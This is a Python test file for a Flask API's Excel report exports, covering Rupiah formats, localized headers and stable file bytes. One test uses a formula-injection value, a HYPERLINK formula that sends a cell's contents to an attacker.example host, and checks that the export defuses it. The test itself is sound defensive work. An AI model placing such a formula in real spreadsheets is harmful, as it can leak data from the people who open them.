"""Every CSV report is also a workbook: typed cells, Rupiah formats, headers in the reader's
language, a sheet describing the columns, and formulas neutralised by the CSV's rule."""

from __future__ import annotations

import io

import openpyxl
import pytest
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from tests.conftest import Auth
from tests.stats_world import seed
from tests.worlds import YEAR, Csr

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def csr(auth: Auth) -> Csr:
    return Csr(auth)


def workbook(response: object) -> openpyxl.Workbook:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]  # type: ignore[attr-defined]
    assert response.headers["Content-Type"].startswith(XLSX)  # type: ignore[attr-defined]
    return openpyxl.load_workbook(io.BytesIO(response.data))  # type: ignore[attr-defined]


def test_the_impact_report_as_a_workbook(
    client: FlaskClient,
    csr: Csr,
    db_session: Session,
) -> None:
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"klik")'
    csr.business.name = formula
    db_session.flush()
    sid = csr.propose(client).json["id"]
    csr.act(client, sid, "accept", csr.alumna_h)
    paid = csr.disburse(client, sid, 1_000_000).json["id"]
    confirm = f"/v1/sponsorships/{sid}/disbursements/{paid}/confirm"
    assert client.post(confirm, headers=csr.alumna_h).status_code == 200
    url = f"/v1/organizations/{csr.company.id}/impact?year={YEAR}&format=xlsx"
    book = workbook(client.get(url, headers={**csr.partner_h, "Accept-Language": "id"}))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Id usaha", "Usaha", "Kabupaten/kota", "Nilai diterima (Rp)"]
    row = [c for c in sheet[2]]
    assert row[1].value == "'" + formula  # text, never run
    assert row[3].value == 1_000_000 and row[3].number_format == '"Rp" #,##0'
    assert book.worksheets[1].title == "Kolom"


def test_the_statistics_as_a_workbook_in_english(client: FlaskClient, db_session: Session) -> None:
    program = seed(db_session, name="Sekoper Buku", size=20)
    book = workbook(
        client.get(
            f"/v1/stats/year?program={program.id}&format=xlsx", headers={"Accept-Language": "en"}
        )
    )
    sheet, about = book.worksheets
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Year", "Name", "Suppressed (under 5)", "Graduates"]
    shown = [r for r in sheet.iter_rows(min_row=2) if r[2].value == "no"]
    assert shown
    graduates = shown[0][3]
    assert isinstance(graduates.value, int) and graduates.number_format == "#,##0"
    share = shown[0][header.index("Share active")]
    assert isinstance(share.value, float) and share.number_format == "0.0%"
    assert about.title == "Columns" and about["B2"].value == "year"


def test_the_same_figures_give_the_same_workbook_bytes_a_second_later() -> None:
    """openpyxl stamps the time of saving into the file; the ETag of a spreadsheet (a hash of
    its bytes) must not change with the clock, or a revalidation never gets its 304."""
    import time

    from api.http.export import Column, xlsx_bytes

    columns = [Column("region", "text", "Region", "Wilayah"), Column("n", "int", "Count", "Jumlah")]
    rows = [("Kota Bekasi", 12), ("Kab. Garut", 7)]
    first = xlsx_bytes("Statistik", columns, rows, "id")
    start = int(time.time())
    while int(time.time()) == start:  # into the next second: openpyxl's stamp would change
        time.sleep(0.05)
    assert xlsx_bytes("Statistik", columns, rows, "id") == first
    book = openpyxl.load_workbook(io.BytesIO(first))
    assert [c.value for c in book.active[2]] == ["Kota Bekasi", 12]
